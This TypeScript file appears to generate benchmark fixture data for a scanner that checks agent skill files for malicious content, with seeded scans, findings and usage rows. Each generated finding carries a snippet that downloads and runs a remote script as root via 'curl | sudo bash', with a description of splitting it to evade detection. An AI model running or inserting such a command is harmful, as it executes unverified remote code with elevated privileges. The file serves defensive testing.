/**
 * The data every contender writes: generated once per run, from a fixed seed, so raw and ours bind
 * the very same values. Objects use the column names, which is also how the service takes a scan.
 */
import type { Category, DetectorLayer, ScanStatus, Severity, Verdict } from "../src/repositories/index.ts";

export interface ScanRow {
  id: string;
  target: string;
  skill_name: string;
  skill_author: string;
  skill_sha256: string;
  status: ScanStatus;
  risk_score: number;
  overall_severity: Severity;
  verdict: Verdict;
  layers_executed: DetectorLayer[];
  errors: string[];
  started_at: string;
  completed_at: string;
  duration_ms: number;
}

/** A finding without its scan_id: a scan carries its findings, W4 names the scan once. */
export interface FindingRow {
  id: string;
  rule_id: string;
  title: string;
  description: string;
  severity: Severity;
  confidence: number;
  category: Category;
  detector_layer: DetectorLayer;
  line_start: number;
  line_end: number;
  snippet: string;
  evidence: string[];
  ioc_values: string[];
  remediation: string;
}

/** A scan as saveScan and POST /scans take it: the scan's columns plus its findings. */
export interface ScanWithFindings extends ScanRow {
  findings: FindingRow[];
}

export interface UsageRow {
  api_key: string;
  endpoint: string;
  method: string;
  status_code: number;
}

/** mulberry32: tiny, fast and good enough to spread ids; the point is that both sides share it. */
export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const SEVERITIES: readonly Severity[] = ["critical", "high", "medium", "low", "info"];
const CATEGORIES: readonly Category[] = [
  "obfuscated_command",
  "social_engineering",
  "prompt_injection",
  "known_malware",
  "credential_exposure",
  "suspicious_command",
  "data_exfiltration",
  "malicious_url",
];
const LAYERS: readonly DetectorLayer[] = ["rule_engine", "url_crawler", "llm_analyzer", "threat_intel"];
const VERDICTS: readonly Verdict[] = ["CLEAN", "CAUTION", "SUSPICIOUS", "MALICIOUS"];

function pick<T>(items: readonly T[], r: () => number): T {
  return items[Math.floor(r() * items.length)] as T;
}

function hex64(r: () => number): string {
  let s = "";
  for (let k = 0; k < 8; k++)
    s += Math.floor(r() * 0xffffffff)
      .toString(16)
      .padStart(8, "0");
  return s;
}

const BASE_TIME = Date.UTC(2026, 1, 1, 12, 0, 0);

export function makeScan(n: number, r: () => number, prefix = "scan"): ScanRow {
  const started = new Date(BASE_TIME + n * 1000);
  const duration = 200 + Math.floor(r() * 5000);
  return {
    id: `${prefix}-${String(n).padStart(7, "0")}`,
    target: `skills/publisher-${n % 97}/skill-${n}/SKILL.md`,
    skill_name: `skill-${n}`,
    skill_author: `publisher-${n % 97}`,
    skill_sha256: hex64(r),
    status: "completed",
    risk_score: Math.floor(r() * 100),
    overall_severity: pick(SEVERITIES, r),
    verdict: pick(VERDICTS, r),
    layers_executed: ["rule_engine", "url_crawler", "threat_intel"],
    errors: [],
    started_at: started.toISOString(),
    completed_at: new Date(started.getTime() + duration).toISOString(),
    duration_ms: duration,
  };
}

export function makeFinding(id: string, k: number, r: () => number): FindingRow {
  const line = 1 + Math.floor(r() * 400);
  return {
    id,
    rule_id: `MALWAR-${String(100 + (k % 40)).padStart(3, "0")}`,
    title: `Suspicious pattern ${k} in skill instructions`,
    description:
      "The skill tells the agent to download and run a remote script with elevated privileges; " +
      "the command is split across lines to avoid simple pattern matches.",
    severity: pick(SEVERITIES, r),
    confidence: Math.round(r() * 1000) / 1000,
    category: pick(CATEGORIES, r),
    detector_layer: pick(LAYERS, r),
    line_start: line,
    line_end: line + Math.floor(r() * 5),
    snippet: `curl -fsSL https://download.example-${k}.com/install.sh | sudo bash`,
    evidence: [`line ${line}: curl piped to shell`, "download host not on allow-list"],
    ioc_values: [`download.example-${k}.com`],
    remediation: "Remove the remote execution step or pin a verified checksum.",
  };
}

/** W1's input: `count` scans with `perScan` findings each. */
export function makeScans(count: number, perScan: number, seed = 1, prefix = "scan"): ScanWithFindings[] {
  const r = rng(seed);
  const out: ScanWithFindings[] = [];
  for (let n = 0; n < count; n++) {
    const scan = makeScan(n, r, prefix);
    const findings: FindingRow[] = [];
    for (let k = 0; k < perScan; k++) findings.push(makeFinding(`${scan.id}-f${k}`, k, r));
    out.push({ ...scan, findings });
  }
  return out;
}

/** W4's input: findings for one scan W1 stored (FindingRepository.createMany takes one scan). */
export interface BulkInput {
  scanId: string;
  rows: FindingRow[];
}

export function makeBulkFindings(count: number, scanId: string, seed = 4): BulkInput {
  const r = rng(seed);
  const rows: FindingRow[] = [];
  for (let n = 0; n < count; n++) rows.push(makeFinding(`bulk-${n}`, n, r));
  return { scanId, rows };
}

/** W2's random ids: the same sequence for every contender. */
export function randomIds(ids: readonly string[], count: number, seed = 2): string[] {
  const r = rng(seed);
  const out: string[] = [];
  for (let n = 0; n < count; n++) out.push(ids[Math.floor(r() * ids.length)] as string);
  return out;
}

export function makeUsage(count: number, seed = 5): UsageRow[] {
  const r = rng(seed);
  const endpoints = ["/api/v1/scans", "/api/v1/scans/:id", "/api/v1/signatures", "/api/v1/health"];
  const out: UsageRow[] = [];
  for (let n = 0; n < count; n++) {
    out.push({
      api_key: `key-${Math.floor(r() * 20)}`,
      endpoint: pick(endpoints, r),
      method: r() < 0.7 ? "GET" : "POST",
      status_code: r() < 0.95 ? 200 : 404,
    });
  }
  return out;
}
